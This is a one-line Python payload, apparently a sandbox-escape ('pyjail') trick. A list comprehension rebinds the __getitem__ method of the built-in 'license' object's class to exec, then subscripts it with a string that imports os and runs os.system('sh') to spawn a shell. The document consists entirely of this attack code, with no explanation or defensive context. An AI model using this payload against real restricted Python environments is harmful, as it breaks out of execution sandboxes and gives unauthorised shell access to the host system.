[license["import os;os.system('sh')"] for license.__class__.__getitem__ in [exec]]
